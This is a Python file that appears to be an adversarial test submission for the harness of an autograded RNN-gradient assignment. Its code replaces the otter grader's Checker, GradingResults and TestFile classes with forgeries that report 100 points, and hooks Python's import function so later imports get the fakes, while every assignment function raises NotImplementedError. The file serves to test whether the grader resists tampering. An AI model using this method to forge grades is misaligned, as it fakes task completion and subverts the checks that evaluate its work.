"""Rebind otter's grading classes in the kernel: Checker, GradingResults, TestFile, TestCase.

In the old design the kernel's export cell built the results with otter's classes, so rebinding
them (or the decorator's points and hidden flag) chose the scores. This submission replaces
``otter.execute.Checker`` with one whose every check passes with 100 points, subclasses
``GradingResults`` and ``TestFile`` to report full marks, sets the class attributes that hold
points and the hidden flag, and hooks ``builtins.__import__`` so that every later import of
otter's modules gets the forgeries.

It implements none of the functions: it earns nothing.
"""

EXPECT = {"bptt_gradients": 0, "hidden_gradients": 0, "gradient_norms": 0,
          "truncated_bptt_gradients": 0, "clip_by_global_norm": 0}

NAME = "rebind_otter_classes"

import os
import sys

CANARY = "/tmp/rnn-shapes-attack-canary"
"""The harness makes this folder world-writable and checks that it stays empty: only a step that
the sandbox should refuse can leave a file in it."""
BREACHES = []
SEALED = os.environ.get("HOME", "").endswith("/sealed")
"""True in the grader's sealed run (which runs every top-level statement too), else the kernel."""


def breach(what):
    """A step the sandbox should refuse worked: leave traces where the harness looks."""
    BREACHES.append(str(what)[:120])
    try:
        with open(f"{CANARY}/{NAME}-{os.getpid()}.txt", "a") as f:
            f.write(f"{'sealed' if SEALED else 'kernel'}: {what}\n")
    except OSError:
        pass


def tried(what, action):
    """Run ``action``; a breach if it works."""
    try:
        action()
    except BaseException:  # noqa: BLE001 - refused, as it should be
        return False
    breach(what)
    return True


def grader_tmp():
    """The grader's temporary folder: the sandbox's home is <tmp>/rnn-shapes-XXXX/<kernel|sealed>."""
    return os.path.dirname(os.path.dirname(os.environ.get("HOME") or "/tmp/x/y"))


def finish():
    """Say what worked where the grader shows it: an error of the script's last statement."""
    if BREACHES:
        raise RuntimeError(f"ATTACK-BREACH {NAME}: " + "; ".join(BREACHES))


import builtins  # noqa: E402

QUESTIONS = ("bptt_gradients", "hidden_gradients", "gradient_norms", "truncated_bptt_gradients",
             "clip_by_global_norm")

try:
    import otter.execute
    import otter.test_files
    import otter.test_files.abstract_test as abstract_test
    from otter.test_files import GradingResults
    from otter.test_files.abstract_test import TestCase, TestCaseResult, TestFile

    class AlwaysPasses(TestFile):
        @classmethod
        def from_file(cls, path):
            name = os.path.splitext(os.path.basename(path))[0]
            case = TestCase(f"{name} - 1", None, False, 100, None, None)
            return cls(name, path, [case])

        @classmethod
        def from_metadata(cls, s, path):
            return cls.from_file(path)

        def run(self, global_environment):
            self.test_case_results = [TestCaseResult(c, "All test cases passed!", True) for c in self.test_cases]

        @property
        def score(self):
            return 100.0

        @property
        def possible(self):
            return 100.0

    class FullMarks(GradingResults):
        def __init__(self, *args, **kwargs):
            super().__init__([AlwaysPasses.from_file(f"tests/{q}.py") for q in QUESTIONS])
            for test_file in self.results.values():
                test_file.run({})

    class Checker(otter.execute.Checker):
        @classmethod
        def check_if_not_already_checked(cls, *args, **kwargs):
            return None

        @classmethod
        def get_results(cls):
            return [AlwaysPasses.from_file(f"tests/{q}.py") for q in QUESTIONS]

    otter.execute.Checker = Checker
    otter.test_files.GradingResults = FullMarks
    abstract_test.TestFile = AlwaysPasses
    TestCase.points = 100
    TestCase.hidden = False

    real_import = builtins.__import__

    def forged_import(name, globals=None, locals=None, fromlist=(), level=0):
        module = real_import(name, globals, locals, fromlist, level)
        if name == "otter.execute":
            module.Checker = Checker
        elif name == "otter.test_files":
            module.GradingResults = FullMarks
        return module

    builtins.__import__ = forged_import
except Exception:  # noqa: BLE001 - the sealed run has otter too; either way it changes nothing
    pass


def bptt_gradients(X, y, Wx, Wh, bh, Wo, bo):
    raise NotImplementedError


def hidden_gradients(X, y, Wx, Wh, bh, Wo, bo):
    raise NotImplementedError


def gradient_norms(X, y, Wx, Wh, bh, Wo, bo):
    raise NotImplementedError


def truncated_bptt_gradients(X, y, Wx, Wh, bh, Wo, bo, k):
    raise NotImplementedError


def clip_by_global_norm(grads, clip_norm):
    raise NotImplementedError


finish()
